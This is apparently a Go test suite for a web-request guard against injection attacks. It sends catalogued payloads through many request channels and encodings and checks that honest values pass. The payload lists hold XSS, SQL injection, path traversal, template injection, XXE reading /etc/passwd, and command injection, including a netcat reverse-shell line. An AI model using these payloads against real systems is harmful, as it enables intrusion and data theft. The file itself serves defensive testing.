package injection_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/fumehood/fumehood/guard/injection"
)

// attacks are written for this test, by class: what somebody would try first.
var attacks = map[string][]string{
	"injection.html": {
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `" autofocus onfocus=alert(1) x="`,
		`' onmouseover='alert(1)`, `javascript:alert(document.cookie)`, `<a href="java&#115;cript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`';alert(1);//`, `</script><script>alert(1)</script>`,
	},
	"injection.sql": {
		`' OR '1'='1`, `' OR 1=1 --`, `admin'-- `, `1 UNION SELECT name, password FROM users`, `1' AND SLEEP(5)-- -`, `1; DROP TABLE users`,
		`' UNION ALL SELECT NULL,NULL,version()-- -`, `1 OR 1=1`, `x' AND (SELECT COUNT(*) FROM users) > 0 --`, `1) OR (1=1`,
	},
	"injection.path":     {`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/passwd`, `....//....//etc/shadow`, `file:///etc/passwd`},
	"injection.command":  {`; cat /etc/passwd`, `x; rm -rf /tmp/x`, `$(id)`, "`id`", `127.0.0.1 && whoami`, `x | nc 203.0.113.9 4444 -e /bin/sh`},
	"injection.template": {`{{7*7}}`, `{{ config.items() }}`, `{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}`, `{{''.__class__.__mro__[1]}}`, `${7*7}`},
	"injection.header":   {"x\r\nSet-Cookie: session=evil", "a@example.com\r\nBcc: all@example.com"},
	"injection.nosql":    {`{"$ne": null}`, `*)(uid=*))(|(uid=*`, `' || this.password.match(/.*/)//+%00`},
	"injection.xml":      {`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
	"injection.code":     {`__import__('os').system('id')`, `O:8:"stdClass":1:{s:1:"a";i:1;}`},
}

// classOf are codes that are as good: some attacks are of two classes.
func sameClass(got, want string) bool {
	if got == want {
		return true
	}
	two := map[string]string{"injection.path": "injection.command injection.request injection.xml", "injection.command": "injection.path injection.template injection.code injection.html",
		"injection.nosql": "injection.path injection.sql injection.html injection.code", "injection.xml": "injection.path", "injection.sql": "injection.html injection.command",
		"injection.template": "injection.code injection.command injection.html", "injection.code": "injection.command injection.template injection.sql injection.html", "injection.header": "injection.html", "injection.html": "injection.sql injection.template injection.command"}
	return got != "" && strings.Contains(two[want], got)
}

// ways are how a value gets to an app.
var ways = map[string]func(value string) *http.Request{
	"query":     func(v string) *http.Request { return httptest.NewRequest("GET", "/s?q="+url.QueryEscape(v), nil) },
	"form":      func(v string) *http.Request { return post("/s", "a=1&q="+url.QueryEscape(v)) },
	"json":      func(v string) *http.Request { return posted("/s", "application/json", jsonOf(v)) },
	"json text": func(v string) *http.Request { return posted("/s", "text/plain", jsonOf(v)) },
	"json form": func(v string) *http.Request { return post("/s", jsonOf(v)) },
	"ndjson":    func(v string) *http.Request { return posted("/s", "application/x-ndjson", "{}\n"+jsonOf(v)) },
	"multipart": func(v string) *http.Request { return multipartOf("q", "", v) },
	"file name": func(v string) *http.Request {
		return multipartOf("f", strings.NewReplacer("\r", "%0D", "\n", "%0A", `"`, "%22", `\`, `\\`).Replace(v), "content")
	},
	"path":   func(v string) *http.Request { return httptest.NewRequest("GET", "/s/"+url.PathEscape(v)+"/x", nil) },
	"cookie": func(v string) *http.Request { return with(plainGet(), "Cookie", "a=b; prefs="+url.QueryEscape(v)) },
	"header": func(v string) *http.Request { return with(plainGet(), "X-Search", v) },
	"agent":  func(v string) *http.Request { return with(plainGet(), "User-Agent", v) },
	"xml": func(v string) *http.Request {
		return posted("/s", "application/xml", "<?xml version='1.0'?><a b='c'>"+html.EscapeString(v)+"</a>")
	},
}

func jsonOf(v string) string {
	b, err := json.Marshal(map[string]any{"a": 1, "items": []any{map[string]any{"q": v}}})
	if err != nil {
		panic(err)
	}
	return string(b)
}

func multipartOf(name, file, value string) *http.Request {
	if file != "" {
		file = `; filename="` + file + `"`
	}
	return posted("/s", "multipart/form-data; boundary=b0b0b0b0b0b0b0b0b0b0",
		"--b0b0b0b0b0b0b0b0b0b0\r\nContent-Disposition: form-data; name=\""+name+"\""+file+"\r\n\r\n"+value+"\r\n--b0b0b0b0b0b0b0b0b0b0--\r\n")
}

// variants are what an attacker makes of a value to get past a filter, and an app undoes.
var variants = map[string]func(string) string{
	"as it is":  func(v string) string { return v },
	"twice":     url.QueryEscape,
	"thrice":    func(v string) string { return url.QueryEscape(url.QueryEscape(v)) },
	"base64":    func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) },
	"base64url": func(v string) string { return base64.RawURLEncoding.EncodeToString([]byte(v)) },
	"hex":       func(v string) string { return hex.EncodeToString([]byte(v)) },
	"entities": func(v string) string {
		var b strings.Builder
		for _, r := range v {
			fmt.Fprintf(&b, "&#%d;", r)
		}
		return b.String()
	},
	"JavaScript": func(v string) string {
		var b strings.Builder
		for _, r := range v {
			fmt.Fprintf(&b, `\u%04x`, r)
		}
		return b.String()
	},
	"full width": func(v string) string {
		return strings.Map(func(r rune) rune {
			if r > ' ' && r < 0x7f {
				return r + 0xFEE0
			}
			return r
		}, v)
	},
}

// reaches says whether an app gets the value of a request in a form that does harm.
func reaches(h http.Handler, r *http.Request) bool {
	w, x := send(h, r)
	return w.Code == 200 && x.Refused == nil
}

func TestAttacksAreRefused(t *testing.T) {
	t.Parallel()
	h := newGuard(t, injection.Config{}, injection.Site{}).Handler(echo)
	for want, values := range attacks {
		for _, value := range values {
			for place, request := range ways {
				controls := strings.ContainsAny(value, "\r\n")
				if controls && (place == "header" || place == "agent" || place == "file name") {
					continue // net/http lets none in
				}
				if place == "file name" && strings.ContainsAny(value, `"\`) {
					continue // unquoted as Werkzeug does: internal/inputs compares that
				}
				if place == "path" && strings.ContainsAny(value, "/\\") && want != "injection.path" {
					continue // its pieces are other values
				}
				if !reaches(echo, request(value)) {
					t.Errorf("%s: %q does not even reach the app without the guard", place, value)
				}
				w, x := send(h, request(value))
				if w.Code != 403 || !sameClass(code(x), want) {
					t.Errorf("%s: %q: %d %q, want %q", place, value, w.Code, code(x), want)
				}
			}
		}
	}
}

func TestDecodedAttacksAreRefused(t *testing.T) {
	t.Parallel()
	h := newGuard(t, injection.Config{}, injection.Site{}).Handler(echo)
	for want, values := range attacks {
		for _, value := range values {
			for name, variant := range variants {
				changed := variant(value)
				if changed == value && name != "as it is" || len(value) < 8 && strings.HasPrefix(name, "base64") {
					continue
				}
				for _, place := range []string{"query", "form", "json"} {
					if w, x := send(h, ways[place](changed)); w.Code != 403 {
						t.Errorf("%s, %s: %q is let through (%s)", place, name, changed, want)
					} else if x.Refused.Err == nil || !strings.Contains(x.Refused.Error(), "q") {
						t.Errorf("%v does not name the field", x.Refused)
					}
				}
			}
		}
	}
}

// honest is what people and programs send.
var honest = []string{
	"", "42", "-3.5", "lamp", "O'Brien", "D'Angelo & Sons", "Smith-Jones, Anna-Lena", "Łukasz Żółć", "it's 5 o'clock (more or less)", "AT&T", "R&D",
	"SELECT your seat, then drop it from the table", "Where is the union office? I'd like to join, or not.", "1 or 2 people", "50% off; today only!",
	"Use <b>bold</b> and <a href=\"https://a.example/x?y=1&z=2\">links</a>", `<p style="text-align: left;">Hi <img src="https://a.example/p.png" alt="x"></p>`,
	"a < b and b > c", "if (x) { y(); } else { z(); }", "for x in range(10):\n    print(x)", "Read `man cat`; it's short.", "# Title\n\n- one\n- two\n\n> quote",
	"https://a.example/path?x=1&y=2#z", "anna@example.com", "C++ & C#", "2024-01-31", "2024-01-31T10:00:00Z", "550e8400-e29b-41d4-a716-446655440000",
	"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
	"+49 (30) 1234-5678", "12,50 €", "$5.00", "100 * 2 = 200", "foo_bar, baz", "report-2024.final.pdf", "Hello {name}", "Rock 'n' roll", "\"quoted\"", "c:\\temp? no.",
	"Lorem ipsum dolor sit amet, consectetur adipiscing elit -- sed do eiusmod.", "日本語のテキスト、です。", "😀👍",
}

func TestHonestValuesPass(t *testing.T) {
	t.Parallel()
	h := newGuard(t, injection.Config{}, injection.Site{}).Handler(echo)
	for _, value := range honest {
		for _, place := range []string{"query", "form", "json", "json form", "multipart"} {
			if w, x := send(h, ways[place](value)); w.Code != 200 {
				t.Errorf("%s: %q is refused: %v", place, value, x.Refused)
			}
		}
	}
	for name, r := range map[string]*http.Request{
		"a browser":       plainGet(),
		"another site":    with(plainGet(), "Referer", "https://search.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
		"a crawler":       with(plainGet(), "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
		"curl":            with(plainGet(), "User-Agent", "curl/8.5.0"),
		"a proxy":         with(plainGet(), "X-Forwarded-For", "203.0.113.7, 2001:db8::1"),
		"statistics":      with(plainGet(), "Cookie", "_ga=GA1.2.1201.1700000000; consent=%7B%22a%22%3Atrue%7D"),
		"a bearer":        with(plainGet(), "Authorization", "Bearer mF_9.B5f-4.1JqM"),
		"a file":          multipartOf("f", "O'Brien's report (1).pdf", "<script>alert(1)</script> ' OR 1=1 --"),
		"a picture":       posted("/s", "image/png", "\x89PNG\r\n\x1a\n' OR 1=1 -- <script>alert(1)</script>"),
		"an octet stream": posted("/s", "application/octet-stream", "a=<script>alert(1)</script>"),
		"an image":        posted("/s", "application/json", `{"image":"data:image/png;base64,`+strings.Repeat("iVBORw0KGgoAAAANSUhEUgAA", 9000)+`"}`),
		"deep":            posted("/s", "application/json", strings.Repeat("[", 60)+strings.Repeat("]", 60)),
		"long":            post("/s", "text="+strings.Repeat("It's+fine,+really.+", 50_000)),
		"a long text":     posted("/s", "text/csv", strings.Repeat("a,b,c\n", 900_000)),
		"many":            post("/s", strings.Repeat("x=it's+1&", 10_000)),
	} {
		if w, x := send(h, r); w.Code != 200 {
			t.Errorf("%s is refused: %v", name, x.Refused)
		}
	}
}

// TestAttackBehindFilling: an attack does not get by because something long stands before it.
func TestAttackBehindFilling(t *testing.T) {
	t.Parallel()
	h := newGuard(t, injection.Config{}, injection.Site{}).Handler(echo)
	fill := strings.Repeat("Lorem ipsum dolor sit amet. ", 30_000)
	for name, r := range map[string]*http.Request{
		"in one value":   post("/s", "q="+url.QueryEscape(fill+"<script>alert(1)</script>")),
		"behind a file":  posted("/s", "application/json", `{"q":"data:image/png;base64,`+strings.Repeat("iVBORw0KGgoAAAANSUhEUgAA", 900)+`<script>alert(1)</script>"}`),
		"a page as data": posted("/s", "application/json", `{"q":"data:text/html;base64,`+strings.Repeat("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pgog", 900)+`"}`),
		"in the last":    post("/s", strings.Repeat("a=b&", 15_000)+"q="+url.QueryEscape("<script>alert(1)</script>")),
		"blanks in JSON": posted("/s", "application/json", strings.Repeat(" ", 1<<20)+`{"q":"<script>alert(1)</script>"}`),
		"a deep leaf":    posted("/s", "application/json", strings.Repeat(`{"a":[`, 40)+`"<script>alert(1)</script>"`+strings.Repeat("]}", 40)),
		"long JSON":      posted("/s", "text/plain", `{"q":"<script>alert(1)</script>"}`+strings.Repeat(" ", 3<<20)),
		"a long text":    posted("/s", "text/plain", "<script>alert(1)</script>"+strings.Repeat(" ", 3<<20)),
		"too long":       posted("/s", "application/json", strings.Repeat(" ", 3<<20)+`{"q":"<script>alert(1)</script>"}`),
		"too many":       post("/s", strings.Repeat("a=b&", 25_000)+"q="+url.QueryEscape("<script>alert(1)</script>")),
		"too deep":       posted("/s", "application/json", strings.Repeat(`{"a":[`, 400)+`"<script>alert(1)</script>"`+strings.Repeat("]}", 400)),
	} {
		w, x := send(h, r)
		want := "injection.html"
		if strings.HasPrefix(name, "too") || name == "long JSON" {
			want = "injection.unseen"
		}
		if w.Code < 400 || code(x) != want {
			t.Errorf("%s: %d %q, want %q", name, w.Code, code(x), want)
		}
	}
}
